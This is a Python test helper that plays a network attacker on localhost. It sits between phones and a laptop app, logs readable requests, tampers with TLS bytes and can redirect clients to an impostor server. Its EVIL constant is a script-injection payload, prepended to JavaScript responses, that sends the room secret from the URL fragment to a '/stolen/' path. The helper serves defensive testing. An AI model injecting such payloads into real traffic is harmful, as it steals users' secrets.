"""Somebody who took over the network: sits between phones and laptop, reads what passes and changes what can be changed."""

from __future__ import annotations

import asyncio
import re
import ssl
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress

CHUNK = 1 << 16
# What a false router would put into the page: it sends the room's secret to itself.
EVIL = b'document.documentElement.dataset.tampered = "yes"; fetch("/stolen/" + location.hash.slice(1));\n'

Change = Callable[[bytes], bytes]


class Middle:
    """``stolen`` are the secrets that a changed page gave away, ``asked`` the requests that could be read,
    ``changed`` how many answers were changed. ``change`` is what it does to bytes from the laptop it cannot read."""

    def __init__(self, port: int) -> None:
        """``port`` is the laptop's."""
        self._laptop = port
        self.stolen: list[str] = []
        self.asked: list[bytes] = []
        self.changed = 0
        self.change: Change = lambda data: data
        # Where to lead whoever comes, instead of the laptop: to a copy of itself with a certificate of its own.
        self.instead = 0

    async def reading(self, phone: asyncio.StreamReader, back: asyncio.StreamWriter) -> None:
        """Where nothing protects the page: each request is read and each script changed on its way."""
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            head = await phone.readuntil(b"\r\n\r\n")
            self.asked.append(head.split(b"\r\n")[0])
            if stolen := re.match(rb"GET /stolen/(\S+)", head):
                self.stolen.append(stolen[1].decode())
            laptop, forth = await asyncio.open_connection("127.0.0.1", self._laptop)
            forth.write(head)
            if b"pgrade: websocket" in head:
                await asyncio.gather(_pour(phone, forth), _pour(laptop, back))
            else:
                back.write(self._evil(await laptop.read()))
                await back.drain()
            forth.close()
        back.close()

    async def blind(self, phone: asyncio.StreamReader, back: asyncio.StreamWriter) -> None:
        """Where TLS passes through: bytes can be passed on or changed, not read."""
        laptop, forth = await asyncio.open_connection("127.0.0.1", self.instead or self._laptop)
        await asyncio.gather(_pour(phone, forth), _pour(laptop, back, self._blindly))

    def _blindly(self, data: bytes) -> bytes:
        tried = self.change(data)
        self.changed += tried != data
        return tried

    def _evil(self, answer: bytes) -> bytes:
        head, _, body = answer.partition(b"\r\n\r\n")
        if b"text/javascript" not in head:
            return answer
        self.changed += 1
        body = EVIL + body
        head = re.sub(rb"(?i)content-length: \d+", b"Content-Length: %d" % len(body), head)
        return head + b"\r\n\r\n" + body


@asynccontextmanager
async def listening(
    serve: Callable[[asyncio.StreamReader, asyncio.StreamWriter], object],
    context: ssl.SSLContext | None = None,
) -> AsyncIterator[int]:
    """Gives the port where ``serve`` listens, until it is left."""
    open_now: set[asyncio.Task[None]] = set()

    async def held(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task
        open_now.add(task)
        try:
            with suppress(ConnectionError, ssl.SSLError):
                await serve(reader, writer)  # type: ignore[misc]
        except asyncio.CancelledError:
            writer.close()
        finally:
            open_now.discard(task)

    server = await asyncio.start_server(held, "127.0.0.1", 0, ssl=context)
    try:
        yield int(server.sockets[0].getsockname()[1])
    finally:
        server.close()
        for task in tuple(open_now):
            task.cancel()
        await asyncio.gather(*open_now, return_exceptions=True)
        await server.wait_closed()


async def _pour(
    source: asyncio.StreamReader, into: asyncio.StreamWriter, change: Change = lambda data: data
) -> None:
    with suppress(ConnectionError):
        while data := await source.read(CHUNK):
            into.write(change(data))
            await into.drain()
    into.close()
